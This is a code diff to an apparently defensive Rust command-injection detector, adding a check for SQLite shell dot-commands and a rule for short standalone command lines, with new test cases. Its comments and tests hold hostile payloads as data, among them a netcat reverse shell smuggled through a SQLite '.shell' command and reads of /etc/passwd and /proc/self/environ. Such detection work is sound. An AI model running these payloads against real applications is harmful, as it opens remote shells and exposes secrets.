@@ -559,6 +559,127 @@ fn command_starts(s: &[u8]) -> impl Iterator<Item = (usize, bool)> + '_ {
     }))
 }
 
+/// `;\n.shell nc 10.0.0.1 6666 -e sh`, `1;.sh whoami`, `;\n.databases`:
+/// a line of the SQLite command-line shell after a separator; `.shell` and
+/// `.system` (or any prefix of them SQLite accepts, down to two letters) run
+/// a program. A literal `\n` counts as the newline an application
+/// unescaping the value would make of it.
+fn sqlite_dot_command(s: &[u8]) -> Option<usize> {
+    const DOT: &[&[u8]] =
+        &[b"databases", b"tables", b"dump", b"open", b"read", b"import", b"output", b"once", b"load", b"schema", b"backup"];
+    memchr::memchr(b'.', s)?;
+    for (start, at_value_start) in command_starts(s) {
+        if at_value_start {
+            continue;
+        }
+        let mut i = start;
+        while i < s.len() && i - start < 16 {
+            match s[i] {
+                b' ' | b'\t' | b'\n' | b'\r' => i += 1,
+                b'\\' if matches!(s.get(i + 1), Some(b'n' | b'r' | b't')) => i += 2,
+                _ => break,
+            }
+        }
+        if s.get(i) != Some(&b'.') {
+            continue;
+        }
+        let at = i;
+        i += 1;
+        while i < s.len() && matches!(s[i], b' ' | b'"' | b'\'' | b'\\') && i - at < 8 {
+            i += 1;
+        }
+        let n = s[i..].iter().take(16).take_while(|b| b.is_ascii_alphabetic()).count();
+        let w = &s[i..i + n];
+        let rest = s[i + n..].trim_ascii_start();
+        // An abbreviation must be followed by a program (`.sh and` is prose).
+        let next = &rest[..rest.iter().position(|&b| !is_word_byte(b)).unwrap_or(rest.len())];
+        let runs = n >= 2
+            && (b"shell".starts_with(w) || b"system".starts_with(w))
+            && (matches!(w, b"shell" | b"system") && !next.is_empty() || program(next).is_some_and(|(_, english)| !english));
+        let dot = DOT.contains(&w) && s.get(i + n).is_none_or(|b| !b.is_ascii_alphanumeric());
+        if runs || dot {
+            return Some(at);
+        }
+    }
+    None
+}
+
+/// `install`, `list`, `decrypt`: a word that names what a program should
+/// do (`pip3 install x`, `cscli alerts list`), which a search for the
+/// program ("python3 tutorial") does not have.
+fn has_subcommand(args: &[u8]) -> bool {
+    const VERBS: &[&[u8]] = &[
+        b"install",
+        b"uninstall",
+        b"list",
+        b"dump",
+        b"decrypt",
+        b"encrypt",
+        b"ping",
+        b"report",
+        b"show",
+        b"get",
+        b"set",
+        b"run",
+        b"exec",
+        b"start",
+        b"stop",
+        b"restart",
+        b"status",
+        b"config",
+        b"init",
+        b"add",
+        b"remove",
+        b"rm",
+        b"update",
+        b"upgrade",
+        b"delete",
+        b"create",
+        b"deploy",
+        b"login",
+        b"push",
+        b"pull",
+        b"clone",
+        b"apply",
+        b"edit",
+        b"view",
+        b"info",
+        b"enable",
+        b"disable",
+        b"reload",
+        b"kill",
+        b"mount",
+        b"connect",
+        b"shell",
+        b"console",
+        b"eval",
+        b"import",
+        b"export",
+        b"exploit",
+        b"attach",
+    ];
+    args.split(|&b| b == b' ').any(|w| VERBS.contains(&w))
+}
+
+/// A value that is nothing but a few shell words: no sentence punctuation,
+/// no more than six words, none of them a one-letter fragment or a word
+/// that joins a sentence ("php webpage and gene", "OpenSSL m").
+fn whole_command_line(s: &[u8]) -> bool {
+    const JOINERS: &[&[u8]] = &[
+        b"a", b"an", b"the", b"and", b"or", b"of", b"to", b"in", b"on", b"for", b"with", b"is", b"are", b"be", b"by", b"as", b"at", b"it",
+        b"this", b"that", b"from", b"not", b"if", b"can", b"will",
+    ];
+    let s = s.trim_ascii();
+    let words = || s.split(|&b| b == b' ').filter(|w| !w.is_empty());
+    s.len() <= 80
+        && !s.ends_with(b".")
+        && words().count() <= 6
+        && words().skip(1).all(|w| w.len() >= 2 && !JOINERS.contains(&w))
+        && s.iter().all(|&b| {
+            b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b' ' | b'.' | b'_' | b'/' | b':' | b'=' | b'+' | b'@' | b'~' | b'-')
+        })
+}
+
 /// Judges `s` (already unquoted) as a command line.
 /// Shell constructs that are code whatever words they hold.
 fn constructs(s: &[u8]) -> Option<(usize, &'static str)> {
@@ -928,6 +1049,9 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
     if let Some((at, why)) = constructs(s) {
         return Some((High, format!("command injection: {why}"), at));
     }
+    if let Some(at) = sqlite_dot_command(s) {
+        return Some((High, "command injection: SQLite shell dot-command".into(), at));
+    }
     let mut seen = 0usize;
     // Without a separator, only the value's start can open a command.
     let separated = memchr::memchr3(b';', b'|', b'&', s).is_some()
@@ -1089,6 +1213,16 @@ pub fn judge(s: &[u8], obfuscated: bool) -> Option<(Confidence, String, usize)> 
         } else if !english && !at_value_start && name.len() > 2 {
             // `; ansible-config dump`, `| visudo`: a program after a separator.
             High
+        } else if at_value_start
+            && !english
+            && args.words > 0
+            && (strong_args || args.path || args.file || args.other_program || has_subcommand(&s[i..]))
+            && whole_command_line(s)
+        {
+            // `ansible-galaxy collection install x`, `cscli alerts list`:
+            // the whole value one short command line of a program that is
+            // no English word, as sent to a parameter passed to a shell.
+            High
         } else if prefixed || english && (args.flag || args.redirect) && !at_value_start {
             Medium
         } else if strong_args || args.path || (!english && args.words > 0) {
@@ -1202,6 +1336,14 @@ mod tests {
         for a in [
             "ls -l /etc/passwd",
             "cat /proc/self/environ",
+            ";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
+            "\";\n. shell nc 10.10.10.1 6666 -e sh",
+            "1;.sh whoami",
+            "ansible-galaxy collection install community.general",
+            "cscli alerts list",
+            "pip3 install something",
+            "1;.\"shell whoami",
+            ";\\n.databases",
             "nohup ifconfig",
             "strace sh -c whoami",
             "time sh -c whoami",
@@ -1278,6 +1420,13 @@ mod tests {
         for b in [
             "time to go home",
             "find the best price",
+            "config files; .sh and .py ones",
+            "v1.2; .net framework",
+            ".shell company",
+            "python3 tutorial",
+            "php webpage and gene",
+            "openssl m",
+            "pip install and upgrade guide",
             "date night ideas",
             "cat food",
             "which one is better?",
